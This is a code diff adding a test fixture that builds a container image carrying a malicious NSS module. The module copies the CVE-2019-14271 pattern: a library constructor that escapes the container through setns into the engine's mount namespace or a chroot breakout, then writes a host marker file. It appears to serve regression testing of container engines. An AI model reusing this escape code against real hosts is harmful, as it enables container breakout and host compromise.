@@ -707,6 +707,100 @@ def build_configured(c: _Ctx) -> None:
         c.w.tag(c.w.add_image(layers, config=cfg, history=history), tag)
 
 
+# An image whose name-service configuration runs code in whatever resolves a user or group
+# name inside it (the pattern of CVE-2019-14271). Not in BUILDERS: the module is compiled per
+# test with the host path of its marker file baked in, so it is built uncached.
+NSS_LIB_DIRS = ("lib", "lib/x86_64-linux-gnu", "usr/lib", "usr/lib/x86_64-linux-gnu")
+NSS_MODULE_C = r"""
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <sched.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+
+/* A fresh procfs of the loader's own pid namespace, as a detached mount (fsopen/fsmount: no
+   mount point needed, so it works from any chroot). */
+static int own_proc(void) {
+    int fs = syscall(430 /* fsopen */, "proc", 0);
+    if (fs < 0) return -1;
+    if (syscall(431 /* fsconfig */, fs, 6 /* FSCONFIG_CMD_CREATE */, NULL, NULL, 0) < 0) {
+        close(fs);
+        return -1;
+    }
+    int mnt = syscall(432 /* fsmount */, fs, 0, 0);
+    close(fs);
+    return mnt;
+}
+
+__attribute__((constructor)) static void escape(void) {
+    char buf[128];
+    const char *how = "none";
+    int cwd = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+    int proc = own_proc();
+    if (proc >= 0) {
+        /* join the mount namespace of whoever started us: the engine's */
+        snprintf(buf, sizeof buf, "%d/ns/mnt", (int)getppid());
+        int ns = openat(proc, buf, O_RDONLY | O_CLOEXEC);
+        if (ns >= 0 && setns(ns, CLONE_NEWNS) == 0) how = "setns";
+        if (ns >= 0) close(ns);
+        close(proc);
+    }
+    if (strcmp(how, "none") == 0 && mkdir(".nss-escape", 0700) == 0 && chroot(".nss-escape") == 0) {
+        /* the classic chroot escape: our cwd is now above our root */
+        for (int i = 0; i < 256; i++) chdir("..");
+        if (chroot(".") == 0) how = "chroot";
+    }
+    int fd = open(NSS_MARKER, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
+    if (fd >= 0) {
+        int n = snprintf(buf, sizeof buf, "pid %d uid %d escaped by %s\n", (int)getpid(), (int)getuid(), how);
+        write(fd, buf, n);
+        close(fd);
+    }
+    if (cwd >= 0) {
+        fchdir(cwd);  /* let the victim go on as if nothing happened */
+        close(cwd);
+    }
+}
+"""
+
+
+def compile_nss_module(marker: Path, out: Path, cc: str = "gcc") -> bytes:
+    """Compile the NSS module whose constructor leaves `marker` on the host; its bytes."""
+    src = out.with_suffix(".c")
+    src.write_text(NSS_MODULE_C)
+    define = "-DNSS_MARKER=" + json.dumps(str(marker))
+    subprocess.run([cc, "-shared", "-fPIC", "-O1", "-Wall", define, "-o", str(out), str(src)],
+                   check=True, capture_output=True, text=True)
+    return out.read_bytes()
+
+
+def nss_layer(module: bytes) -> LayerBuilder:
+    layer = (
+        LayerBuilder()
+        .file("etc/nsswitch.conf", "passwd: evil\ngroup: evil\nshadow: evil\nhosts: evil\n")
+        # owners no host or image name file knows, so any lookup goes to the module
+        .file("etc/owned-by-nobody-known", "x\n", uid=4242, gid=4242)
+        .dir("data", uid=4243, gid=4243)
+        .file("data/file", "data\n", uid=4243, gid=4243)
+    )
+    for d in NSS_LIB_DIRS:
+        layer.file(f"{d}/libnss_evil.so.2", module, mode=0o755)
+    return layer
+
+
+def build_nss_layout(dest: Path, module: bytes) -> BuiltImage:
+    """The "nss" image (busybox plus nss_layer(module)), uncached, into `dest`."""
+    info, base_tar = _base()
+    w = LayoutWriter(dest)
+    c = _Ctx(w, info, base_tar)
+    layers = [c.base(), w.add_layer(nss_layer(module))]
+    w.tag(w.add_image(layers, history=[c.BASE_HISTORY, _hist("COPY nss /")]), "latest")
+    return BuiltImage("nss", dest, w.finish())
+
+
 BUILDERS: dict[str, Callable[[_Ctx], None]] = {
     "busybox": build_busybox,
     "layers": build_layers,
